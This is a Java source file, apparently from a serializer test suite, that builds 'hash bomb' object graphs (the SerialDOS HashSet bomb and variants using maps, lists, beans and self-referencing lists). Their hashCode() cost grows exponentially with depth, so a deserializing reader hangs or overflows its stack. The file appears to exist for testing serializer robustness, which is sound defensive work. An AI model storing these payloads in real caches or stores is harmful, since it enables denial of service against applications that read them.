package io.msm.serializers;

import java.io.Serializable;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;

/**
 * Small object graphs whose hashCode() is exponential in their depth, as an attacker with write
 * access to memcached stores them. Building and writing them hashes nothing costly: sets and maps
 * are filled top-down while what they hold is still empty, and neither Java serialization nor Kryo
 * hashes what it writes. Only a reader that rebuilds the hash-based collections pays.
 */
public final class HashBombs {
    private HashBombs() {
    }

    /**
     * The "HashSet bomb" (SerialDOS): two sets per level, each holding both sets of the next level,
     * so that hashing a set of level 0 visits 2^depth sets. 6 KB with Java serialization at depth 100.
     */
    public static Set<Object> hashSets(int depth) {
        Set<Object> root = new HashSet<>();
        Set<Object> s1 = root;
        Set<Object> s2 = new HashSet<>();
        for (int i = 0; i < depth; i++) {
            Set<Object> t1 = new HashSet<>();
            Set<Object> t2 = new HashSet<>();
            t1.add("foo"); // t1 and t2 differ, so that a set holds two
            s1.add(t1);
            s1.add(t2);
            s2.add(t1);
            s2.add(t2);
            s1 = t1;
            s2 = t2;
        }
        return root;
    }

    /**
     * The same shape built bottom-up, so that every set is hashed right: what an application could
     * hold, where a shallow depth keeps hashing cheap (2^depth).
     */
    public static Set<Object> sharedSets(int depth) {
        Set<Object> s1 = new HashSet<>(Set.of("foo"));
        Set<Object> s2 = new HashSet<>();
        for (int i = 0; i < depth; i++) {
            Set<Object> t1 = new HashSet<>(Set.of(s1, s2, "foo"));
            Set<Object> t2 = new HashSet<>(Set.of(s1, s2));
            s1 = t1;
            s2 = t2;
        }
        return new HashSet<>(Set.of(s1, s2));
    }

    /** The same with maps whose keys are the two maps of the next level. */
    public static Map<Object, Object> hashMapKeys(int depth) {
        Map<Object, Object> root = new HashMap<>();
        Map<Object, Object> m1 = root;
        Map<Object, Object> m2 = new HashMap<>();
        for (int i = 0; i < depth; i++) {
            Map<Object, Object> t1 = new HashMap<>();
            Map<Object, Object> t2 = new HashMap<>();
            t1.put("foo", "bar");
            m1.put(t1, "a");
            m1.put(t2, "b");
            m2.put(t1, "a");
            m2.put(t2, "b");
            m1 = t1;
            m2 = t2;
        }
        return root;
    }

    /**
     * One set holding one list, each list of the chain holding the next list twice: no hash-based
     * collection is nested, the ordinary lists' hashCode() delegates to their elements.
     */
    @SuppressWarnings("unchecked")
    public static Set<Object> listsInOneSet(int depth) {
        List<Object> bottom = new ArrayList<>(List.of("foo"));
        for (int i = 0; i < depth; i++) {
            List<Object> up = new ArrayList<>();
            up.add(bottom);
            up.add(bottom);
            bottom = up;
        }
        Set<Object> set = new HashSet<>();
        set.add(new ArrayList<>()); // hashed while empty...
        ((List<Object>) set.iterator().next()).add(bottom); // ...then filled
        return set;
    }

    /** The same through a webapp's own class whose hashCode() uses its fields (here a record). */
    public static Map<Object, Object> beansAsKeys(int depth) {
        Object bottom = "foo";
        for (int i = 0; i < depth; i++) {
            bottom = new Pair(bottom, bottom);
        }
        Map<Object, Object> map = new HashMap<>();
        Holder key = new Holder();
        map.put(key, "value"); // hashed while empty...
        key.held = bottom; // ...then filled
        return map;
    }

    /**
     * A set holding a list that holds itself after a costly list: hashing it never ends but in a
     * StackOverflowError, after hashing the costly list once per level of the stack.
     */
    @SuppressWarnings("unchecked")
    public static Set<Object> cycleInOneSet(int costlyDepth) {
        List<Object> costly = (List<Object>) listsInOneSet(costlyDepth).iterator().next();
        List<Object> loop = new ArrayList<>();
        Set<Object> set = new HashSet<>();
        set.add(loop);
        loop.add(costly);
        loop.add(loop);
        return set;
    }

    public record Pair(Object left, Object right) implements Serializable {
    }

    /**
     * Stored with a writeObject of its own, which Kryo leaves to Java serialization: a bomb inside
     * it reaches a Kryo reader as a Java stream inside the Kryo stream.
     */
    public static final class Wrapped implements Serializable {
        private static final long serialVersionUID = 1L;
        Object inside;

        public Wrapped(Object inside) {
            this.inside = inside;
        }

        private void writeObject(java.io.ObjectOutputStream out) throws java.io.IOException {
            out.defaultWriteObject();
        }

        private void readObject(java.io.ObjectInputStream in) throws java.io.IOException, ClassNotFoundException {
            in.defaultReadObject();
        }
    }

    /**
     * Writes its state itself without defaultWriteObject, though it has primitive and object
     * fields (the serialization specification says it should not; some classes do), and reads it
     * back the same way: the stream holds no field values for it, only what writeObject wrote.
     */
    public static final class OwnFormat implements Serializable {
        private static final long serialVersionUID = 1L;
        private int count;
        private byte flag;
        private String label;
        private Object extra;

        public OwnFormat(int count, byte flag, String label, Object extra) {
            this.count = count;
            this.flag = flag;
            this.label = label;
            this.extra = extra;
        }

        private void writeObject(java.io.ObjectOutputStream out) throws java.io.IOException {
            out.writeInt(count);
            out.writeByte(flag);
            out.writeUTF(label);
            out.writeObject(extra);
        }

        private void readObject(java.io.ObjectInputStream in) throws java.io.IOException, ClassNotFoundException {
            count = in.readInt();
            flag = in.readByte();
            label = in.readUTF();
            extra = in.readObject();
        }

        @Override
        public boolean equals(Object o) {
            return o instanceof OwnFormat && ((OwnFormat) o).count == count && ((OwnFormat) o).flag == flag
                    && ((OwnFormat) o).label.equals(label) && Objects.equals(((OwnFormat) o).extra, extra);
        }

        @Override
        public int hashCode() {
            return Objects.hash(count, flag, label, extra);
        }
    }

    /** A bean whose hashCode() uses its one field. */
    public static final class Holder implements Serializable {
        private static final long serialVersionUID = 1L;
        Object held;

        @Override
        public boolean equals(Object o) {
            return o instanceof Holder && Objects.equals(((Holder) o).held, held);
        }

        @Override
        public int hashCode() {
            return Objects.hashCode(held);
        }
    }

    /** A folder whose items point back to it, as entities of an ORM do; an item's hashCode() uses its id only. */
    public static final class Folder implements Serializable {
        private static final long serialVersionUID = 1L;
        final String name;
        final Set<Item> items = new HashSet<>();

        public Folder(String name, int count) {
            this.name = name;
            for (int i = 0; i < count; i++) {
                items.add(new Item("item-" + i, this));
            }
        }

        @Override
        public boolean equals(Object o) {
            return o instanceof Folder && ((Folder) o).name.equals(name);
        }

        @Override
        public int hashCode() {
            return name.hashCode();
        }
    }

    public static final class Item implements Serializable {
        private static final long serialVersionUID = 1L;
        final String id;
        final Folder folder;

        Item(String id, Folder folder) {
            this.id = id;
            this.folder = folder;
        }

        @Override
        public boolean equals(Object o) {
            return o instanceof Item && ((Item) o).id.equals(id);
        }

        @Override
        public int hashCode() {
            return id.hashCode();
        }
    }
}
